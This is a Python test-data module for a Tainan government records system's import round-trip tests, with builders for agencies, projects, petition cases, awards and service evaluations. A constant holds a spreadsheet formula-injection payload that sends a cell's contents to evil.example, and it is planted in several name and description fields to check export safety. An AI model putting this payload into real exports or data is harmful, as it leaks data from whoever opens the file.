"""Data for the import tests: a small, realistic set for every register, and each register's
rows as plain values keyed by natural key (what "identical data" means after a round trip)."""

from __future__ import annotations

from datetime import date, datetime, time
from decimal import Decimal

from petitions.choices import CaseStatus, Channel
from petitions.models import Case, Category, Subcategory
from petitions.services import close_case, record_first_response, register_case
from projects import services
from projects.choices import (
    ControlStatus,
    DirectiveStatus,
    ExecutionPhase,
    ForwardCategory,
    FundingSource,
    MilestoneStatus,
    ProjectKind,
    ReportState,
)
from projects.models import Directive, Milestone, MonthlyReport, PlannedPoint, Project, TenderNumber
from tainan_rdec.choices import AgencyKind, CalendarExceptionKind, Role
from tainan_rdec.models import Agency, CalendarException, District, User
from tainan_rdec.workdays import TAIPEI
from tests.petitions.builders import ensure_categories
from tests.projects.factories import linear_curve

# A name an attacker hopes a spreadsheet program will run when the export is opened.
FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"點我")'


def taipei(*args) -> datetime:
    return datetime(*args, tzinfo=TAIPEI)


# -- the kernel --------------------------------------------------------------------------------


def make_agencies() -> list[Agency]:
    """A bureau and two units under it; the parent sorts after a child, so an import must place
    it first."""
    parent = Agency.objects.create(
        code="T10",
        name="臺南市政府測試局",
        short_name="測試局",
        kind=AgencyKind.BUREAU,
        sort_order=900,
        head_contact_name="林秘書",
        head_contact_email="lin@example.tw",
    )
    return [
        parent,
        Agency.objects.create(
            code="T11",
            name="臺南市測試局第一大隊",
            kind=AgencyKind.SECOND_TIER,
            parent=parent,
            sort_order=1,
        ),
        Agency.objects.create(
            code="T12",
            name=FORMULA,
            kind=AgencyKind.OTHER,
            parent=parent,
            active=False,
            sort_order=2,
        ),
    ]


def agency_rows(codes) -> dict:
    return {
        a.code: (
            a.name,
            a.short_name,
            a.kind,
            a.parent.code if a.parent else None,
            a.active,
            a.sort_order,
            a.head_contact_name,
            a.head_contact_email,
        )
        for a in Agency.objects.filter(code__in=codes).select_related("parent")
    }


def make_users(agency_a, agency_b) -> list[User]:
    users = [
        User(
            username="chen.ming",
            first_name="明",
            last_name="陳",
            email="chen@example.tw",
            agency=agency_a,
            role=Role.BUREAU_STAFF,
            title="技士",
            phone="06-2991111#8201",
        ),
        User(
            username="lee.hua",
            first_name="華",
            last_name="李",
            agency=agency_b,
            role=Role.BUREAU_MANAGER,
            title="科長",
            is_active=False,
        ),
        User(username="rdec.wu", first_name="芳", last_name="吳", role=Role.REVIEWER),
    ]
    for user in users:
        user.set_password("not-exported-1234")
        user.save()
    return users


def user_rows(usernames) -> dict:
    return {
        u.username: (
            u.first_name,
            u.last_name,
            u.email,
            u.agency.code if u.agency else None,
            u.role,
            u.title,
            u.phone,
            u.is_active,
        )
        for u in User.objects.filter(username__in=usernames).select_related("agency")
    }


def make_calendar() -> None:
    CalendarException.objects.create(
        date=date(2024, 7, 24), kind=CalendarExceptionKind.DAY_OFF, reason="凱米颱風停止上班"
    )
    CalendarException.objects.create(
        date=date(2024, 7, 25), kind=CalendarExceptionKind.DAY_OFF, reason="凱米颱風停止上班"
    )
    CalendarException.objects.create(
        date=date(2024, 10, 31), kind=CalendarExceptionKind.WORKING_DAY, reason="更正：照常上班"
    )


def calendar_rows() -> dict:
    return {c.date: (c.kind, c.reason) for c in CalendarException.objects.all()}


# -- projects ----------------------------------------------------------------------------------


def make_projects(agency_a, agency_b) -> list[Project]:
    """Two projects as the bureaus keep them: co-agency, districts, tenders, a forward one."""
    first = Project.objects.create(
        control_number="P113-0001",
        name="運河北岸自行車道改善工程",
        host_agency=agency_a,
        kind=ProjectKind.MAJOR,
        total_budget=120_000_000,
        funding_source=FundingSource.MIXED,
        summary="改善自行車道鋪面\n增設夜間照明",
        planned_start=date(2024, 1, 15),
        planned_completion=date(2024, 12, 31),
        phase=ExecutionPhase.CONSTRUCTION,
        control_status=ControlStatus.LISTED,
    )
    first.co_agencies.set([agency_b])
    first.districts.set(District.objects.filter(name__in=["安平區", "中西區"]))
    TenderNumber.objects.create(project=first, number="1130115A01")
    TenderNumber.objects.create(project=first, number="1130115A02")
    second = Project.objects.create(
        control_number="F113-0002",
        name=FORMULA,
        host_agency=agency_b,
        kind=ProjectKind.FORWARD,
        forward_category=ForwardCategory.WATER,
        total_budget=45_500_000,
        planned_start=date(2024, 3, 1),
        planned_completion=date(2025, 2, 28),
        actual_completion=None,
        phase=ExecutionPhase.STOPPED,
        stop_reason="用地取得延宕",
        planned_resumption=date(2024, 9, 1),
        in_annual_evaluation=False,
        control_status=ControlStatus.SUSPENDED,
    )
    return [first, second]


def project_rows(numbers) -> dict:
    result = {}
    for p in Project.objects.filter(control_number__in=numbers).prefetch_related(
        "co_agencies", "districts", "tenders"
    ):
        result[p.control_number] = (
            p.name,
            p.host_agency.code,
            sorted(a.code for a in p.co_agencies.all()),
            p.kind,
            p.forward_category,
            sorted(d.name for d in p.districts.all()),
            p.total_budget,
            p.funding_source,
            p.summary,
            p.planned_start,
            p.planned_completion,
            p.actual_completion,
            p.phase,
            p.control_status,
            p.in_annual_evaluation,
            p.stop_reason,
            p.planned_resumption,
            sorted(t.number for t in p.tenders.all()),
        )
    return result


def make_milestones(project) -> None:
    Milestone.objects.create(
        project=project,
        name="細部設計完成",
        planned_date=date(2024, 3, 31),
        actual_date=date(2024, 3, 28),
        status=MilestoneStatus.MET,
        note="提前完成",
    )
    Milestone.objects.create(project=project, name="主體工程完成", planned_date=date(2024, 10, 31))


def milestone_rows() -> dict:
    return {
        (m.project.control_number, m.name): (m.planned_date, m.actual_date, m.status, m.note)
        for m in Milestone.objects.select_related("project")
    }


def make_curve(project, *, by=None):
    return services.create_baseline(
        project,
        linear_curve(project.planned_start, project.planned_completion, project.total_budget),
        by=by,
    )


def curve_rows() -> dict:
    return {
        (p.baseline.project.control_number, p.month): (p.planned_percent, p.planned_allocation)
        for p in PlannedPoint.objects.filter(baseline__is_current=True).select_related(
            "baseline__project"
        )
    }


def make_reports(project) -> list[MonthlyReport]:
    """January accepted, February returned once, March a draft behind schedule."""
    make_curve(project)
    baseline = project.current_baseline()
    reports = []
    for period, actual, state, extra in (
        (date(2024, 1, 1), "8.33", ReportState.ACCEPTED, {"reviewer_comment": "請持續追蹤"}),
        (date(2024, 2, 1), "17.0", ReportState.RETURNED, {"return_count": 1, "is_late": True}),
        (
            date(2024, 3, 1),
            "18.75",
            ReportState.DRAFT,
            {"lag_reasons": "雨天停工", "remedies": "假日趕工"},
        ),
    ):
        _b, planned, allocation = services.planned_for(project, period)
        reports.append(
            MonthlyReport.objects.create(
                project=project,
                period=period,
                baseline=baseline,
                planned_percent=planned,
                actual_percent=Decimal(actual),
                allocated_to_date=allocation,
                paid=allocation // 2,
                payable_unpaid=1_234_567,
                savings=0,
                progress_text="依預定進度施工中",
                state=state,
                **extra,
            )
        )
    return reports


def report_rows() -> dict:
    return {
        (r.project.control_number, r.period): (
            r.planned_percent,
            r.actual_percent,
            r.allocated_to_date,
            r.paid,
            r.payable_unpaid,
            r.savings,
            r.progress_text,
            r.lag_reasons,
            r.remedies,
            r.help_needed,
            r.decrease_explanation,
            r.state,
            r.is_late,
            r.return_count,
            r.reviewer_comment,
            r.baseline_id is not None,
        )
        for r in MonthlyReport.objects.select_related("project")
    }


def make_directives(project, agency) -> None:
    Directive.objects.create(
        project=project,
        text="請於下次會議前提出趕工計畫",
        responsible_agency=project.host_agency,
        due_date=date(2024, 4, 30),
    )
    Directive.objects.create(
        text="請各機關檢視颱風期間工地安全",
        responsible_agency=agency,
        due_date=date(2024, 8, 15),
        status=DirectiveStatus.CLOSED,
        closing_note="已辦竣",
    )


def directive_rows() -> dict:
    return {
        (
            d.project.control_number if d.project else None,
            d.responsible_agency.code,
            d.due_date,
            d.text,
        ): (d.status, d.closing_note)
        for d in Directive.objects.select_related("project", "responsible_agency")
    }


# -- petitions ---------------------------------------------------------------------------------


def make_categories() -> Category:
    category = Category.objects.create(name="公園維護", time_limit_days=5, sort_order=95)
    Subcategory.objects.create(category=category, code="9901", name="遊具損壞")
    Subcategory.objects.create(
        category=category, code="9902", name="樹木修剪", time_limit_days=10, active=False
    )
    return category


def category_rows() -> dict:
    return {
        "categories": {
            c.name: (c.time_limit_days, c.active, c.sort_order) for c in Category.objects.all()
        },
        "subcategories": {
            s.code: (s.category.name, s.name, s.time_limit_days, s.active)
            for s in Subcategory.objects.select_related("category")
        },
    }


def make_cases(agency_a, agency_b) -> list[Case]:
    """Cases as the services register and close them: open, closed on time, closed late."""
    ensure_categories()
    pothole = Subcategory.objects.get(code="0501")
    noise = Subcategory.objects.get(code="0301")
    east = District.objects.get(name="東區")
    opened = register_case(
        case_number="UN202402070001",
        channel=Channel.HOTLINE_1999,
        received_at=taipei(2024, 2, 7, 10, 15),
        subcategory=pothole,
        district=east,
        address="臺南市東區中華東路一段100號",
        latitude=Decimal("22.991234"),
        longitude=Decimal("120.227654"),
        description="路面坑洞，機車行經危險",
        handling_agency=agency_a,
    )
    record_first_response(opened, at=taipei(2024, 2, 7, 16, 0))
    on_time = register_case(
        case_number="UN202403010002",
        channel=Channel.MAYOR_MAILBOX,
        received_at=taipei(2024, 3, 1, 9, 0, 5),
        subcategory=noise,
        description=FORMULA,
        handling_agency=agency_b,
    )
    close_case(on_time, at=taipei(2024, 3, 4, 11, 30), satisfaction=5)
    late = register_case(
        case_number="UN202403050003",
        channel=Channel.WEB,
        received_at=taipei(2024, 3, 5, 8, 0),
        subcategory=pothole,
        description="人孔蓋鬆動",
        handling_agency=agency_a,
    )
    close_case(late, at=taipei(2024, 3, 20, 17, 45), satisfaction=2)
    return [opened, on_time, late]


def case_rows() -> dict:
    fields = (
        "channel",
        "received_at",
        "category_id",
        "subcategory_id",
        "district_id",
        "address",
        "latitude",
        "longitude",
        "description",
        "handling_agency_id",
        "due_date",
        "first_response_at",
        "closed_at",
        "status",
        "processing_days",
        "closed_on_time",
        "reopened_count",
        "satisfaction",
        "event_id",
    )
    return {c.case_number: tuple(getattr(c, f) for f in fields) for c in Case.objects.all()}


def closed_status() -> str:
    return CaseStatus.CLOSED


# -- awards ------------------------------------------------------------------------------------


def make_awards(agency_a, agency_b, project, reviewer) -> list:
    """A confirmed top award linked to a project, a registered one whose name is a formula, and
    a returned one (what a reviewer sends back)."""
    from awards.choices import AwardClass, AwardState
    from awards.models import Award

    confirmed = Award.objects.create(
        agency=agency_a,
        roc_year=112,
        award_date=date(2023, 11, 20),
        name="公共工程金質獎",
        awarding_body="行政院公共工程委員會",
        award_class=AwardClass.NATIONAL,
        is_top=True,
        project=project,
        evidence_url="https://www.pcc.gov.tw/award/2023",
        note="特優\n土木類",
        state=AwardState.CONFIRMED,
        reviewed_by=reviewer,
        reviewed_at=taipei(2023, 12, 1, 9, 0),
    )
    registered = Award.objects.create(
        agency=agency_b,
        roc_year=113,
        award_date=date(2024, 3, 26),
        name=FORMULA,
        awarding_body="國家發展委員會",
        award_class=AwardClass.MERIT,
        evidence_url="https://www.ndc.gov.tw/News.aspx?n=1",
    )
    returned = Award.objects.create(
        agency=agency_a,
        roc_year=112,
        award_date=date(2024, 1, 15),
        name="政府服務獎",
        awarding_body="國家發展委員會",
        award_class=AwardClass.OTHER,
        evidence_url="https://www.ndc.gov.tw/News.aspx?n=2",
        state=AwardState.RETURNED,
        return_reason="佐證文件不足",
        reviewed_by=reviewer,
        reviewed_at=taipei(2024, 2, 1, 9, 0),
    )
    return [confirmed, registered, returned]


def award_rows() -> dict:
    from awards.models import Award

    return {
        a.natural_key(): (
            a.award_date,
            a.award_class,
            a.is_top,
            a.project.control_number if a.project else None,
            a.evidence_url,
            a.note,
            a.state,
        )
        for a in Award.objects.select_related("agency", "project")
    }


# -- service quality ---------------------------------------------------------------------------


def _points(rubric, route=None, **overrides) -> dict:
    from evaluations.services import applicable_groups

    groups = applicable_groups(rubric.kind, route)
    points = {i.code: i.max_points for i in rubric.items.all() if i.group in groups}
    points.update({code: Decimal(value) for code, value in overrides.items()})
    return points


def make_phone_tests(agency_a, agency_b, reviewer) -> list:
    """Three calls through the service: through the switchboard (every item), a direct call
    (the 業務單位 items only) whose unit is formula-like text, and a 1999 call of the year
    before (its own rubric version)."""
    from evaluations import services
    from evaluations.choices import CallRoute, RubricKind
    from evaluations.rubrics import rubric_for

    made = []
    for agency, route, day, at, extra, overrides in (
        (
            agency_a,
            CallRoute.SWITCHBOARD,
            date(2024, 3, 26),
            time(10, 30),
            {"unit": "養護工程科", "rings": 3, "extension": "8123", "recording_ref": "R-0326"},
            {"S2": "7.5", "U5": "6"},
        ),
        (
            agency_b,
            CallRoute.DIRECT,
            date(2024, 4, 2),
            time(14, 5, 30),
            {"unit": FORMULA, "seconds_to_answer": 12, "notes": "語氣親切\n答詢正確"},
            {"U6": "0"},
        ),
        (
            agency_a,
            CallRoute.HOTLINE,
            date(2023, 11, 2),
            time(9, 0),
            {"unit": "話務中心", "rings": 1},
            {},
        ),
    ):
        rubric = rubric_for(RubricKind.PHONE, day.year)
        made.append(
            services.record_phone_test(
                by=reviewer,
                rubric=rubric,
                points=_points(rubric, route, **overrides),
                agency=agency,
                route=route,
                phone_number="06-2991111",
                tested_on=day,
                tested_at=at,
                tester="陳專員",
                **extra,
            )
        )
    return made


def _scored_rows(model, date_field, detail_fields) -> dict:
    rows = {}
    for record in model.objects.select_related("agency", "rubric").prefetch_related("scores__item"):
        rows[record.reference] = (
            record.agency.code,
            getattr(record, date_field),
            *(getattr(record, name) for name in detail_fields),
            record.rubric.year,
            record.total,
            record.max_total,
            record.score,
            sorted((s.item.code, s.points) for s in record.scores.all()),
        )
    return rows


def phone_test_rows() -> dict:
    from evaluations.models import PhoneTest

    return _scored_rows(
        PhoneTest,
        "tested_on",
        (
            "unit",
            "route",
            "phone_number",
            "extension",
            "tested_at",
            "tester",
            "rings",
            "seconds_to_answer",
            "recording_ref",
            "notes",
        ),
    )


def make_audits(agency_a, agency_b, reviewer) -> list:
    """Two audits through the service; agency A is on 113's target list."""
    from evaluations import services
    from evaluations.choices import RubricKind, TargetBasis
    from evaluations.models import AuditTarget
    from evaluations.rubrics import rubric_for

    AuditTarget.objects.create(year=2024, agency=agency_a, basis=TargetBasis.COUNTER)
    made = []
    for agency, day, counter, overrides in (
        (agency_a, date(2024, 5, 14), "聯合服務中心", {"E3": "2.5", "T1": "0"}),
        (agency_b, date(2024, 6, 3), "水利行政櫃台", {}),
    ):
        rubric = rubric_for(RubricKind.AUDIT, day.year)
        made.append(
            services.record_audit(
                by=reviewer,
                rubric=rubric,
                points=_points(rubric, **overrides),
                agency=agency,
                counter=counter,
                visited_on=day,
                auditor="神秘客A",
                findings="雙語標示不足\n等候座椅不足",
            )
        )
    return made


def audit_rows() -> dict:
    from evaluations.models import Audit

    rows = _scored_rows(Audit, "visited_on", ("counter", "auditor", "findings"))
    targets = dict(Audit.objects.values_list("reference", "target__agency__code"))
    return {reference: (*row, targets[reference]) for reference, row in rows.items()}


def make_coaching(agency_a, agency_b, reviewer) -> list:
    """112: a winner (every stage), an entry that ended after the recommendation; 113: one
    entry still in coaching."""
    from evaluations.choices import AwardCategory, CoachingStage
    from evaluations.coaching import advance_coaching, create_coaching

    winner = create_coaching(
        by=reviewer,
        year=2023,
        agency=agency_a,
        category=AwardCategory.DIGITAL,
        title="道路挖掘一站通",
        on_date=date(2023, 3, 1),
        notes="第8屆",
    )
    for stage, day in (
        (CoachingStage.RECOMMENDED, date(2023, 5, 2)),
        (CoachingStage.WRITTEN_REVIEW, date(2023, 6, 10)),
        (CoachingStage.SHORTLISTED, date(2023, 8, 1)),
        (CoachingStage.SITE_VISIT, date(2023, 9, 15)),
        (CoachingStage.AWARDED, date(2023, 11, 20)),
    ):
        advance_coaching(winner, by=reviewer, to_stage=stage, on_date=day)
    ended = create_coaching(
        by=reviewer,
        year=2023,
        agency=agency_b,
        category=AwardCategory.SOCIAL,
        title=FORMULA,
        on_date=date(2023, 3, 1),
    )
    advance_coaching(
        ended, by=reviewer, to_stage=CoachingStage.RECOMMENDED, on_date=date(2023, 5, 2)
    )
    advance_coaching(
        ended, by=reviewer, to_stage=CoachingStage.NOT_AWARDED, on_date=date(2023, 6, 30)
    )
    current = create_coaching(
        by=reviewer,
        year=2024,
        agency=agency_a,
        category=AwardCategory.SOCIAL,
        title="長照交通接送",
        on_date=date(2024, 2, 15),
    )
    return [winner, ended, current]


def coaching_rows() -> dict:
    from evaluations.models import AwardCoaching

    return {
        (c.year, c.agency.code, c.title): (
            c.category,
            c.notes,
            c.stage,
            c.reached_level,
            [(s.from_stage, s.to_stage, s.on_date) for s in c.changes.all()],
        )
        for c in AwardCoaching.objects.select_related("agency").prefetch_related("changes")
    }
